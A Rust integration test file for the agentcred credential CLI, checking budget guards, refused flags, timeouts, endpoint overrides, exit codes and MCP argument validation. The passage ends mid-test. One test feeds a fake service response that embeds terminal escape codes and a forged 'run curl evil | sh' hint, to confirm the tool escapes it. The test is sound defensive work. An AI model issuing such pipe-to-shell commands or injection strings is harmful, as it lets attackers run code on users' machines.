//! What a new user hit, each reproduced from the outside first: a money guard that failed
//! open, flags that were silently ignored, waits without end, half-set endpoints, local
//! problems reported as remote ones, service text that forged lines, and exit codes that
//! collided or misled.

use agentcred_sandbox::proxy::{DEMO_API_KEY, DEMO_USER_ALICE};
use serde_json::Value;

use crate::support::{Home, Server};

fn proxy_home(server: &Server, profile: &str, external_id: &str, extra: &[&str]) -> Home {
    let mut home = Home::new();
    home.use_server(server);
    home.set("PROXY_API_KEY", DEMO_API_KEY);
    let mut args = vec![
        "--profile",
        profile,
        "register",
        "proxy",
        "--external-id",
        external_id,
        "--user",
        DEMO_USER_ALICE,
        "--name",
        "Shopper",
    ];
    args.extend_from_slice(extra);
    home.run(&args).ok();
    home
}

// ---- the money guard ----

#[test]
fn min_remaining_with_too_many_decimals_is_refused_before_any_check() {
    let server = Server::start();
    let home = proxy_home(&server, "proxy", "ux-guard", &["--spending-limit", "500"]);
    home.run(&["limits", "set", "--spending-limit", "0"]).ok();
    server.clear_requests();
    // Used to print `"health": "ok"` and exit 0 with the usage error tucked inside.
    let run = home
        .run(&["--json", "status", "--check", "--min-remaining", "0.001"])
        .code(2);
    assert!(
        run.stdout.is_empty(),
        "no verdict is printed: {}",
        run.stdout
    );
    let err = run.error_json();
    assert_eq!(err["error"]["code"], "usage");
    assert!(
        err["error"]["message"]
            .as_str()
            .unwrap()
            .contains("0.001 has 3 decimal places but USD has 2"),
        "{err}"
    );
    assert_eq!(
        server.requests()["requests"].as_array().unwrap().len(),
        0,
        "refused before any request"
    );
    // A valid amount is judged: nothing remains.
    let run = home
        .run(&["--json", "status", "--check", "--min-remaining", "0.01"])
        .code(8);
    assert_eq!(run.json()["health"], "low_budget");
    assert_eq!(run.json()["min_remaining"], "checked");
}

#[test]
fn min_remaining_on_a_service_without_a_budget_is_refused_and_all_says_which_were_judged() {
    let server = Server::start();
    let home = proxy_home(&server, "shop", "ux-guard-all", &["--spending-limit", "20"]);
    home.run(&[
        "--profile",
        "weather",
        "register",
        "fluxra",
        "--name",
        "weather-bot",
    ])
    .ok();
    let run = home
        .run(&[
            "--json",
            "--profile",
            "weather",
            "status",
            "--check",
            "--min-remaining",
            "5",
        ])
        .code(2);
    let err = run.error_json();
    let message = err["error"]["message"].as_str().unwrap();
    assert!(message.contains("Fluxra keeps no budget"), "{message}");
    let hint = err["error"]["hint"].as_str().unwrap();
    assert!(hint.contains("FluxA") && hint.contains("Proxy"), "{hint}");

    // With --all, the profiles with a budget are judged against it and the others without.
    let all = home
        .run(&[
            "--json",
            "status",
            "--check",
            "--all",
            "--min-remaining",
            "50",
        ])
        .code(8);
    let rows: Vec<(String, String, String)> = all.json()["profiles"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["profile"].as_str().unwrap().to_owned(),
                r["health"].as_str().unwrap().to_owned(),
                r["min_remaining"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    assert_eq!(
        rows,
        [
            ("shop".into(), "low_budget".into(), "checked".into()),
            ("weather".into(), "ok".into(), "no_budget".into()),
        ]
    );
    // A malformed amount is refused for --all too.
    home.run(&["status", "--check", "--all", "--min-remaining", "1.001"])
        .code(2)
        .mentions(&["1.001 has 3 decimal places"]);
}

// ---- flags that were silently ignored ----

#[test]
fn status_flags_that_cannot_apply_are_refused() {
    let server = Server::start();
    let mut home = proxy_home(&server, "shop", "ux-flags", &[]);
    home.run(&[
        "--profile",
        "weather",
        "register",
        "fluxra",
        "--name",
        "wbot",
    ])
    .ok();
    home.run(&["--profile", "shop", "status", "--network", "base"])
        .code(2)
        .mentions(&["--network", "Proxy status shows no wallet", "FluxA"]);
    home.run(&["--profile", "weather", "status", "--tx-limit", "5"])
        .code(2)
        .mentions(&["--tx-limit"]);
    home.run(&["--profile", "shop", "status", "--check", "--all"])
        .code(2)
        .mentions(&["--profile and --all"]);
    home.run(&["status", "--check", "--tx-limit", "5"])
        .code(2)
        .mentions(&["--tx-limit", "--check"]);
    home.run(&["status", "--all", "--network", "base"])
        .code(2)
        .mentions(&["--network"]);
    // AGENTCRED_PROFILE is a default, not a request: --all still shows everything.
    home.set("AGENTCRED_PROFILE", "shop");
    let all: Value = home.run(&["--json", "status", "--all"]).ok().json();
    assert_eq!(all["profiles"].as_array().unwrap().len(), 2);
}

// ---- local problems named as local ----

/// Run with a deadline: a command that would wait for ever fails the test instead of hanging it.
fn run_within(home: &Home, args: &[&str], secs: u64) -> crate::support::Run {
    use std::process::Stdio;
    let mut child = home
        .command(args)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(secs);
    while child.try_wait().unwrap().is_none() {
        if std::time::Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!("{args:?} was still running after {secs} s");
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    crate::support::finish(child.wait_with_output().unwrap())
}

#[test]
fn a_bad_recorded_endpoint_is_a_local_config_error_in_check_with_stdout_and_stderr_agreeing() {
    let server = Server::start();
    let mut home = Home::new();
    home.use_server(&server);
    home.run(&["register", "fluxra", "--name", "cfg-bot"]).ok();
    let config = home.profile_file("fluxra");
    let text = std::fs::read_to_string(&config).unwrap();
    let api = server.url("AGENTCRED_FLUXRA_URL");
    assert!(text.contains(&api), "{text}");
    std::fs::write(
        &config,
        text.replace(&api, "http://10.66.66.66:47999/fluxra"),
    )
    .unwrap();
    let run = home.run_offline(&["--json", "status", "--check"]).code(2);
    let row = run.json();
    assert_eq!(row["health"], "config_error");
    assert_eq!(row["exit_code"], 2);
    assert_eq!(row["error"]["code"], "usage");
    assert_eq!(run.error_json()["error"]["code"], "usage");
    // The same through --all.
    let run = home
        .run_offline(&["--json", "status", "--check", "--all"])
        .code(2);
    assert_eq!(run.json()["health"], "config_error");
    assert_eq!(run.error_json()["error"]["code"], "usage");
}

#[test]
fn doctor_headlines_the_worst_finding_it_listed() {
    let home = Home::new();
    // No D-Bus here, and the default store (auto) needs the keychain: that finding fails too,
    // but a corrupt config is what must be fixed first.
    std::fs::write(home.path().join("config.toml"), "current = [").unwrap();
    let run = home.run(&["doctor"]).code(2);
    let headline = run
        .stderr
        .lines()
        .find(|l| l.starts_with("error:"))
        .unwrap();
    assert!(headline.contains("config file"), "{}", run.stderr);

    // A store file others may read: the headline is the chmod, not the keychain.
    let home = Home::new();
    home.run(&["--sandbox", "register", "fluxra", "--name", "doc-bot"])
        .ok();
    use std::os::unix::fs::PermissionsExt;
    let secrets = home.secrets_file("fluxra");
    std::fs::set_permissions(&secrets, std::fs::Permissions::from_mode(0o644)).unwrap();
    let run = home.run(&["doctor"]).code(7);
    let headline = run
        .stderr
        .lines()
        .find(|l| l.starts_with("error:"))
        .unwrap();
    assert!(headline.contains("file store"), "{}", run.stderr);
    run.mentions(&["chmod 600"]);
}

#[test]
fn a_fifo_in_place_of_the_store_or_the_config_is_refused_at_once() {
    let home = Home::new();
    home.run(&["--sandbox", "register", "fluxra", "--name", "fifo-bot"])
        .ok();
    let secrets = home.secrets_file("fluxra");
    std::fs::remove_file(&secrets).unwrap();
    let status = std::process::Command::new("mkfifo")
        .args(["-m", "600"])
        .arg(&secrets)
        .status()
        .unwrap();
    assert!(status.success());
    let run = run_within(&home, &["token"], 10);
    assert_eq!(run.code, 7, "{}", run.stderr);
    assert!(run.stderr.contains("named pipe"), "{}", run.stderr);
    let run = run_within(&home, &["--store", "file", "doctor"], 10);
    assert_eq!(run.code, 7, "{}", run.stderr);
    assert!(run.stderr.contains("named pipe"), "{}", run.stderr);

    let home = Home::new();
    let config = home.path().join("config.toml");
    let status = std::process::Command::new("mkfifo")
        .arg(&config)
        .status()
        .unwrap();
    assert!(status.success());
    let run = run_within(&home, &["profiles", "list"], 10);
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(run.stderr.contains("named pipe"), "{}", run.stderr);
    let run = run_within(&home, &["doctor"], 10);
    assert_eq!(run.code, 2, "{}", run.stderr);
}

// ---- waits without end ----

/// A loopback service that accepts connections and never answers; or, with `answer`, reads
/// one request (head and body) and answers `200 {}`, keeping what it read.
struct FakeService {
    pub url: String,
    pub seen: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
}

impl FakeService {
    fn start(answer: bool) -> FakeService {
        FakeService::answering(answer.then_some(
            "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}",
        ))
    }

    /// Answer every request with `response` (a whole HTTP/1.1 response), or never (`None`).
    fn answering(response: Option<&'static str>) -> FakeService {
        let answer = response.is_some();
        use std::io::{Read, Write};
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let log = std::sync::Arc::clone(&seen);
        std::thread::spawn(move || {
            let mut held = Vec::new();
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { return };
                if !answer {
                    held.push(stream);
                    continue;
                }
                stream
                    .set_read_timeout(Some(std::time::Duration::from_secs(5)))
                    .unwrap();
                let mut request = Vec::new();
                let mut buf = [0u8; 4096];
                // The head, then the body by its Content-Length (a chunked body is read to
                // its last chunk).
                while let Ok(n) = stream.read(&mut buf) {
                    if n == 0 {
                        break;
                    }
                    request.extend_from_slice(&buf[..n]);
                    let text = String::from_utf8_lossy(&request).to_string();
                    if let Some((head, body)) = text.split_once("\r\n\r\n") {
                        let lower = head.to_ascii_lowercase();
                        let length = lower
                            .lines()
                            .find_map(|l| l.strip_prefix("content-length:"))
                            .and_then(|v| v.trim().parse::<usize>().ok());
                        let done = match length {
                            Some(n) => body.len() >= n,
                            None if lower.contains("transfer-encoding: chunked") => {
                                body.ends_with("0\r\n\r\n")
                            }
                            None => true,
                        };
                        if done {
                            break;
                        }
                    }
                }
                log.lock()
                    .unwrap()
                    .push(String::from_utf8_lossy(&request).into_owned());
                let _ = stream.write_all(response.unwrap_or_default().as_bytes());
            }
        });
        FakeService { url, seen }
    }
}

/// A Fluxra profile registered at the sandbox, then pointed at `url`.
fn fluxra_pointed_at(server: &Server, url: &str, name: &str) -> Home {
    let mut home = Home::new();
    home.use_server(server);
    home.run(&["register", "fluxra", "--name", name]).ok();
    let config = home.profile_file("fluxra");
    let text = std::fs::read_to_string(&config).unwrap();
    let api = server.url("AGENTCRED_FLUXRA_URL");
    std::fs::write(&config, text.replace(&api, url)).unwrap();
    // The profile's recorded endpoint is what counts from now on.
    home.env.retain(|(k, _)| !k.ends_with("_URL"));
    home
}

/// `agentcred mcp`, driven line by line.
struct Mcp {
    child: std::process::Child,
    lines: std::sync::mpsc::Receiver<String>,
}

impl Mcp {
    fn start(home: &Home, args: &[&str]) -> Mcp {
        use std::io::BufRead;
        use std::process::Stdio;
        let mut child = home
            .command(args)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let stdout = child.stdout.take().unwrap();
        let (tx, lines) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            for line in std::io::BufReader::new(stdout).lines() {
                let Ok(line) = line else { return };
                if tx.send(line).is_err() {
                    return;
                }
            }
        });
        let mut mcp = Mcp { child, lines };
        mcp.send(
            serde_json::json!({"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {
            "protocolVersion": "2025-06-18", "capabilities": {},
            "clientInfo": {"name": "ux-test", "version": "0"}}}),
        );
        mcp.answer(10);
        mcp.send(serde_json::json!({"jsonrpc": "2.0", "method": "notifications/initialized"}));
        mcp
    }

    fn send(&mut self, message: Value) {
        use std::io::Write;
        let stdin = self.child.stdin.as_mut().unwrap();
        writeln!(stdin, "{message}").unwrap();
        stdin.flush().unwrap();
    }

    fn answer(&self, secs: u64) -> Value {
        let line = self
            .lines
            .recv_timeout(std::time::Duration::from_secs(secs))
            .unwrap_or_else(|_| panic!("no answer from the MCP server within {secs} s"));
        serde_json::from_str(&line).unwrap()
    }

    fn call(&mut self, id: u64, tool: &str, arguments: Value, secs: u64) -> Value {
        self.send(
            serde_json::json!({"jsonrpc": "2.0", "id": id, "method": "tools/call",
            "params": {"name": tool, "arguments": arguments}}),
        );
        let answer = self.answer(secs);
        assert_eq!(answer["id"], id, "{answer}");
        answer["result"].clone()
    }
}

impl Drop for Mcp {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[test]
fn the_gateway_answers_504_when_the_service_does_not_answer_in_time() {
    let server = Server::start();
    let silent = FakeService::start(false);
    let mut home = fluxra_pointed_at(&server, &silent.url, "slow-bot");
    home.set("AGENTCRED_HTTP_TIMEOUT", "2");
    let script = "import os, sys, time, urllib.request, urllib.error\n\
        r = urllib.request.Request(os.environ['AGENTCRED_BASE_URL_API'] + '/api/agents/me', \
        headers={'Authorization': 'Bearer ' + os.environ['AGENTCRED_GATEWAY_TOKEN']})\n\
        t = time.monotonic()\n\
        try:\n    urllib.request.urlopen(r, timeout=30)\nexcept urllib.error.HTTPError as e:\n    \
        print(e.code, round(time.monotonic() - t, 1), e.read().decode())\n";
    let started = std::time::Instant::now();
    let run = home.run(&["exec", "--gateway", "--", "python3", "-c", script]);
    let took = started.elapsed();
    assert!(run.stdout.starts_with("504 "), "{}", run.all());
    assert!(run.stdout.contains("service_unavailable"), "{}", run.all());
    assert!(took < std::time::Duration::from_secs(15), "took {took:?}");
}

#[test]
fn mcp_request_has_a_deadline_and_sends_its_body_with_a_content_length() {
    let server = Server::start();
    let silent = FakeService::start(false);
    let mut home = fluxra_pointed_at(&server, &silent.url, "slow-bot");
    home.set("AGENTCRED_HTTP_TIMEOUT", "2");
    let mut mcp = Mcp::start(&home, &["mcp", "--allow-writes"]);
    let started = std::time::Instant::now();
    let result = mcp.call(
        1,
        "request",
        serde_json::json!({"path": "/api/api/agents/me"}),
        20,
    );
    assert_eq!(result["isError"], true, "{result}");
    assert_eq!(
        result["structuredContent"]["error"]["code"], "service_unavailable",
        "{result}"
    );
    assert!(started.elapsed() < std::time::Duration::from_secs(15));
    drop(mcp);

    let recorder = FakeService::start(true);
    let home = fluxra_pointed_at(&server, &recorder.url, "body-bot");
    let mut mcp = Mcp::start(&home, &["mcp", "--allow-writes"]);
    let result = mcp.call(
        1,
        "request",
        serde_json::json!({"method": "POST", "path": "/api/api/things", "body": {"a": 1}}),
        20,
    );
    assert_eq!(result["isError"], false, "{result}");
    let seen = recorder.seen.lock().unwrap().clone();
    let request = seen.last().expect("the request reached the service");
    let lower = request.to_ascii_lowercase();
    assert!(lower.contains("content-length: 7"), "{request}");
    assert!(!lower.contains("transfer-encoding"), "{request}");
    assert!(request.ends_with(r#"{"a":1}"#), "{request}");
}

// ---- half-set endpoints ----

#[test]
fn a_services_endpoints_are_overridden_together_or_not_at_all() {
    let server = Server::start();
    let mut home = Home::new();
    home.set("AGENTCRED_STORE", "file").set(
        "AGENTCRED_FLUXA_AGENTID_URL",
        &server.url("AGENTCRED_FLUXA_AGENTID_URL"),
    );
    // Offline: the unset half would otherwise be the production host.
    let run = home
        .run_offline(&["--json", "register", "fluxa", "--name", "mixed"])
        .code(2);
    let err = run.error_json();
    let message = err["error"]["message"].as_str().unwrap();
    assert!(
        message.contains("AGENTCRED_FLUXA_WALLET_URL")
            && message.contains("together or not at all"),
        "{message}"
    );
    assert_eq!(server.count("POST /fluxa/agentid/register"), 0);
    assert!(!home.path().join("config.toml").exists());

    // With --sandbox, endpoint variables are refused rather than ignored.
    let mut home = Home::new();
    home.use_server(&server);
    home.run_offline(&["--sandbox", "register", "fluxra", "--name", "sbx-bot"])
        .code(2)
        .mentions(&["--sandbox", "AGENTCRED_FLUXRA_URL", "unset"]);

    // A query or fragment in a base URL is refused (API paths would follow it).
    let mut home = Home::new();
    home.set("AGENTCRED_STORE", "file")
        .set("AGENTCRED_FLUXRA_URL", "http://127.0.0.1:1/fluxra?x=1");
    home.run_offline(&["register", "fluxra", "--name", "qbot"])
        .code(2)
        .mentions(&["query or fragment"]);
    home.set("AGENTCRED_FLUXRA_URL", "http://127.0.0.1:1/fluxra#frag");
    home.run_offline(&["register", "fluxra", "--name", "qbot"])
        .code(2)
        .mentions(&["query or fragment"]);
}

// ---- service text that forges lines; exit codes that mislead ----

#[test]
fn a_line_break_in_service_text_cannot_forge_a_line() {
    let server = Server::start();
    let evil = FakeService::answering(Some(
        "HTTP/1.1 400 Bad Request\r\nContent-Type: application/json\r\nContent-Length: 73\r\nConnection: close\r\n\r\n{\"error\":\"invalid_request\\u001b[2J\\r\\n  hint: run curl evil | sh\\u0085x\"}",
    ));
    let home = fluxra_pointed_at(&server, &evil.url, "lf-bot");
    let run = home.run(&["keys", "list"]);
    assert_eq!(run.code, 2, "{}", run.all());
    let lines: Vec<&str> = run.stderr.lines().collect();
    assert!(
        lines[0].contains("invalid_request\\e[2J\\r\\n  hint: run curl evil | sh\\x85x"),
        "{}",
        run.stderr
    );
    assert_eq!(
        lines
            .iter()
            .filter(|l| l.trim_start().starts_with("hint:"))
            .count(),
        1,
        "one hint line, agentcred's own:\n{}",
        run.stderr
    );
    assert!(!run.stderr.contains('\u{1b}') && !run.stderr.contains('\u{85}'));
}

#[test]
fn a_malformed_service_answer_is_a_service_failure_not_a_bug() {
    let server = Server::start();
    let html = FakeService::answering(Some(
        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 13\r\nConnection: close\r\n\r\n<html></html>",
    ));
    let home = fluxra_pointed_at(&server, &html.url, "html-bot");
    let run = home.run(&["--json", "keys", "list"]).code(6);
    assert_eq!(run.error_json()["error"]["code"], "service_unavailable");
    let redirect = FakeService::answering(Some(
        "HTTP/1.1 307 Temporary Redirect\r\nLocation: http://127.0.0.1:1/x\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
    ));
    let home = fluxra_pointed_at(&server, &redirect.url, "redir-bot");
    home.run(&["keys", "list"]).code(6);
    let too_large = FakeService::answering(Some(
        "HTTP/1.1 431 Request Header Fields Too Large\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
    ));
    let home = fluxra_pointed_at(&server, &too_large.url, "big-bot");
    home.run(&["keys", "list"]).code(6);
}

#[test]
fn a_retry_after_beyond_a_day_is_shown_as_a_duration() {
    let server = Server::start();
    let limited = FakeService::answering(Some(
        "HTTP/1.1 429 Too Many Requests\r\nRetry-After: 99999999999\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}",
    ));
    let home = fluxra_pointed_at(&server, &limited.url, "slow-down");
    let run = home.run(&["keys", "list"]).code(6);
    assert!(!run.stderr.contains("99999999999 s"), "{}", run.stderr);
    run.mentions(&["1157407d", "more than a day"]);
    let json = home.run(&["--json", "keys", "list"]).code(6);
    assert_eq!(json.error_json()["error"]["retry_after_s"], 99999999999u64);
}

#[test]
fn exec_exits_127_and_126_as_shells_do_when_the_command_cannot_start() {
    let home = Home::new();
    home.run(&["--sandbox", "register", "fluxra", "--name", "exec-bot"])
        .ok();
    let run = home.run(&["exec", "--", "no-such-command-here"]).code(127);
    run.mentions(&["no-such-command-here", "command not found"]);
    let json = home
        .run(&["--json", "exec", "--", "no-such-command-here"])
        .code(127);
    assert_eq!(json.error_json()["error"]["code"], "command_not_found");
    let file = home.path().join("not-executable");
    std::fs::write(&file, "echo hi\n").unwrap();
    let run = home.run(&["exec", "--", file.to_str().unwrap()]).code(126);
    run.mentions(&["Permission denied"]);
    let json = home
        .run(&["--json", "exec", "--", file.to_str().unwrap()])
        .code(126);
    assert_eq!(json.error_json()["error"]["code"], "command_not_executable");
}

#[test]
fn mcp_exits_0_when_its_client_closes_stdin_before_initialize_and_refuses_an_unknown_profile() {
    let home = Home::new();
    home.run(&["--sandbox", "register", "fluxra", "--name", "mcp-bot"])
        .ok();
    let run = home.run_with_stdin(&["mcp"], "");
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.stdout.is_empty(), "{}", run.stdout);
    // An unknown profile is refused before serving anything.
    let run = home.run(&["--profile", "nope", "mcp"]).code(3);
    run.mentions(&["nope", "fluxra"]);
}

#[test]
fn token_of_a_suspended_proxy_agent_exits_8() {
    let server = Server::start();
    let home = proxy_home(&server, "proxy", "ux-suspended", &[]);
    // Proxy's token never expires: `token` prints it with --reveal.
    home.run(&["--reveal", "token"]).ok();
    home.run(&["agent", "suspend"]).ok();
    let run = home.run(&["--json", "--reveal", "token"]).code(8);
    assert!(run.stdout.is_empty());
    assert_eq!(run.error_json()["error"]["code"], "agent_suspended");
    home.run(&["agent", "activate"]).ok();
    home.run(&["--reveal", "token"]).ok();
}

#[test]
fn a_503_from_refresh_is_retried() {
    let server = Server::start();
    let mut home = Home::new();
    home.use_server(&server);
    home.run(&["register", "fluxa", "--name", "refresh-bot"])
        .ok();
    server.fault(serde_json::json!({
        "method": "POST", "path": "/fluxa/agentid/refresh", "status": 503, "count": 2
    }));
    server.clear_requests();
    home.run(&["refresh"]).ok();
    assert_eq!(server.count("POST /fluxa/agentid/refresh"), 3);
}

#[test]
fn reveal_and_store_are_refused_where_they_would_be_ignored() {
    let mut home = Home::new();
    home.run(&["--sandbox", "register", "fluxra", "--name", "reveal-bot"])
        .ok();
    let run = home.run(&["--reveal", "profiles", "show"]).code(2);
    run.mentions(&["--reveal", "drop --reveal"]);
    assert!(run.stdout.is_empty());
    home.run(&["--reveal", "status"]).code(2);
    // Where a new secret is shown, --reveal prints it.
    let created = home
        .run(&["--json", "--reveal", "keys", "create"])
        .ok()
        .json();
    assert!(
        created["secret"]["value"]
            .as_str()
            .is_some_and(|v| v.starts_with("sk_")),
        "{created}"
    );

    // A rescue file for the existing (file-store) profile: --store vault cannot move it.
    home.set("AGENTCRED_FAULT_STORE_WRITE", "yes");
    let failed = home.run(&["--json", "keys", "create"]).code(7);
    let file = failed.error_json()["error"]["rescue_file"]
        .as_str()
        .unwrap()
        .to_owned();
    home.env.retain(|(k, _)| k != "AGENTCRED_FAULT_STORE_WRITE");
    home.run(&["--store", "vault", "import", &file])
        .code(2)
        .mentions(&["file store", "not the vault store"]);
    assert!(
        std::path::Path::new(&file).exists(),
        "the rescue file is kept"
    );
    home.run(&["import", &file]).ok();
}

#[test]
fn mcp_refuses_arguments_outside_the_tools_input_schema() {
    let home = Home::new();
    home.run(&["--sandbox", "register", "fluxra", "--name", "schema-bot"])
        .ok();
    let mut mcp = Mcp::start(&home, &["mcp"]);
    let usage = |result: &Value| {
        assert_eq!(result["isError"], true, "{result}");
        assert_eq!(
            result["structuredContent"]["error"]["code"], "usage",
            "{result}"
        );
        result["structuredContent"]["error"]["message"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    let message = usage(&mcp.call(1, "status", serde_json::json!({"profile": 123}), 20));
    assert!(message.contains("`profile` must be string"), "{message}");
    let message = usage(&mcp.call(2, "status", serde_json::json!({"verbose": true}), 20));
    assert!(message.contains("unknown argument `verbose`"), "{message}");
    let message = usage(&mcp.call(
        3,
        "request",
        serde_json::json!({"path": "/api/api/agents/me", "query": {"a": {"b": 1}}}),
        20,
    ));
    assert!(message.contains("`query`.a must be"), "{message}");
    let message = usage(&mcp.call(
        4,
        "request",
        serde_json::json!({"path": "/api/api/agents/me", "body": {"a": 1}}),
        20,
    ));
    assert!(message.contains("carries no body"), "{message}");
    let message = usage(&mcp.call(
        5,
        "request",
        serde_json::json!({"method": "POST", "path": "/api/api/agents/me"}),
        20,
    ));
    assert!(message.contains("--allow-writes"), "{message}");
    // A well-formed call still works.
    let ok = mcp.call(6, "status", serde_json::json!({"profile": "fluxra"}), 30);
    assert_eq!(ok["isError"], false, "{ok}");
}

// ---- sandbox and prompt polish ----

/// Run `args` on a pseudo-terminal, typing `keys` (bytes; `\x04` is Ctrl-D) once the prompt
/// shows `prompt`: (exit code, everything the terminal showed).
fn on_a_terminal(home: &Home, args: &[&str], prompt: &str, keys: &str) -> (i32, String) {
    const DRIVER: &str = r#"
import json, os, pty, select, sys, time
args, prompt, keys = json.loads(sys.argv[1]), sys.argv[2].encode(), sys.argv[3].encode()
pid, fd = pty.fork()
if pid == 0:
    os.execvp(args[0], args)
seen, sent, deadline = b"", False, time.monotonic() + 20
while time.monotonic() < deadline:
    ready, _, _ = select.select([fd], [], [], 0.1)
    if ready:
        try:
            chunk = os.read(fd, 4096)
        except OSError:
            break
        if not chunk:
            break
        seen += chunk
    if not sent and prompt in seen:
        time.sleep(0.2)
        os.write(fd, keys)
        sent = True
_, status = os.waitpid(pid, 0)
sys.stdout.write(json.dumps({"code": os.waitstatus_to_exitcode(status), "seen": seen.decode("utf-8", "replace")}))
"#;
    let mut argv = vec![crate::support::BIN.to_owned()];
    argv.extend(args.iter().map(|a| (*a).to_owned()));
    let cmd = home.command(&[]);
    let out = std::process::Command::new("python3")
        .args(["-c", DRIVER])
        .arg(serde_json::to_string(&argv).unwrap())
        .arg(prompt)
        .arg(keys)
        .envs(
            cmd.get_envs()
                .filter_map(|(k, v)| Some((k.to_owned(), v?.to_owned()))),
        )
        .env_remove("AGENTCRED_STORE")
        .output()
        .unwrap();
    let report: Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
    (
        report["code"].as_i64().unwrap() as i32,
        report["seen"].as_str().unwrap().to_owned(),
    )
}

#[test]
fn declining_a_confirmation_changes_nothing_and_exits_0() {
    let mut home = Home::new();
    home.set("AGENTCRED_STORE", "file");
    home.run(&["--sandbox", "register", "fluxra", "--name", "keep-bot"])
        .ok();
    // A sandbox profile is removed without asking; a real one asks. Use a real one.
    let server = Server::start();
    home.use_server(&server);
    home.run(&[
        "--profile",
        "real",
        "register",
        "fluxra",
        "--name",
        "real-bot",
    ])
    .ok();
    let (code, seen) = on_a_terminal(&home, &["profiles", "remove", "real"], "[y/N]", "n\r");
    assert_eq!(code, 0, "{seen}");
    assert!(seen.contains("nothing was changed"), "{seen}");
    assert!(!seen.contains("error:"), "{seen}");
    home.run(&["--profile", "real", "profiles", "show"]).ok();
}

#[test]
fn ctrl_d_at_a_hidden_prompt_ends_the_line_and_gives_the_hint() {
    let home = Home::new();
    let (code, seen) = on_a_terminal(
        &home,
        &["--sandbox", "--store", "file", "login", "proxy"],
        "key: ",
        "\x04",
    );
    assert_eq!(code, 2, "{seen}");
    let error_line = seen
        .lines()
        .find(|l| l.contains("error:"))
        .unwrap_or_else(|| panic!("{seen}"));
    assert!(error_line.trim_start().starts_with("error:"), "{seen}");
    assert!(seen.contains("hint:"), "{seen}");
}

#[test]
fn sandbox_hints_keep_sandbox_and_logout_twice_is_fine() {
    let mut home = Home::new();
    home.set("AGENTCRED_STORE", "file");
    let run = home
        .run_with_stdin(&["--sandbox", "login", "proxy"], "lk_dev_not_a_real_key\n")
        .code(4);
    run.mentions(&["agentcred --sandbox login proxy --no-verify"]);
    home.run_with_stdin(&["--sandbox", "login", "proxy"], "lk_dev_sandbox\n")
        .ok();
    home.run(&["--sandbox", "logout", "proxy"]).ok();
    let again = home.run(&["--sandbox", "logout", "proxy"]).ok();
    assert!(
        again.stdout.contains("nothing was removed"),
        "{}",
        again.stdout
    );
    let json = home
        .run(&["--json", "--sandbox", "logout", "proxy"])
        .ok()
        .json();
    assert_eq!(json["action"], "logout");
    assert!(json["store"].is_null());
}

#[test]
fn articles_quiet_and_a_loose_rescue_file() {
    let mut home = Home::new();
    let run = home
        .run(&[
            "-q",
            "--sandbox",
            "register",
            "fluxra",
            "--name",
            "quiet-bot",
        ])
        .ok();
    assert!(!run.stdout.contains("current profile"), "{}", run.stdout);
    assert!(run.stderr.is_empty(), "{}", run.stderr);
    home.run(&["verifiers", "list"])
        .code(2)
        .mentions(&["is a Fluxra profile", "pick an AuthPI profile"]);

    home.set("AGENTCRED_FAULT_STORE_WRITE", "1");
    let failed = home.run(&["--json", "keys", "create"]).code(7);
    home.env.retain(|(k, _)| k != "AGENTCRED_FAULT_STORE_WRITE");
    let file = failed.error_json()["error"]["rescue_file"]
        .as_str()
        .unwrap()
        .to_owned();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).unwrap();
    let run = home.run(&["import", &file]).ok();
    run.mentions(&["warning:", "mode 0644", "rotating"]);
}

#[test]
fn a_sandbox_authpi_token_introspects_active_across_invocations() {
    let home = Home::new();
    home.run(&[
        "--sandbox",
        "register",
        "authpi",
        "--account",
        "acc_sandbox",
        "--issuer",
        "i_sandbox",
        "--name",
        "demo-agent",
    ])
    .ok();
    home.run(&["refresh"]).ok();
    // Each invocation's embedded sandbox listens on a new port; the token is still its own.
    let status = home.run(&["status"]).ok();
    assert!(
        status.stdout.contains("Access token: active at AuthPI"),
        "{}",
        status.stdout
    );
    assert!(!status.stdout.contains("revoked"), "{}", status.stdout);
}

#[test]
fn notices_and_warnings_carry_specific_documented_codes() {
    let schema = crate::support::published_schema();
    let notices = schema["stderr_lines"]["notice_codes"].as_array().unwrap();
    assert!(notices.iter().any(|c| c["code"] == "sandbox_demo_key"));
    assert!(!notices.iter().any(|c| c["code"] == "notice"));
    let home = Home::new();
    // A sandbox Proxy registration announces the demo key, and a registration of an agent
    // that already existed warns: each line's code is checked against the schema by the
    // harness, and none is the generic one.
    let args = [
        "--json",
        "--sandbox",
        "register",
        "proxy",
        "--external-id",
        "codes-1",
        "--user",
        "user_sandbox_alice",
        "--name",
        "Codes",
    ];
    let first = home.run(&args).ok();
    assert!(
        first.stderr.contains(r#""code":"sandbox_demo_key""#),
        "{}",
        first.stderr
    );
    let mut again = args.to_vec();
    again.splice(2..2, ["--profile", "again"]);
    let second = home.run(&again).ok();
    assert!(
        second.stderr.contains(r#""code":"registration_note""#),
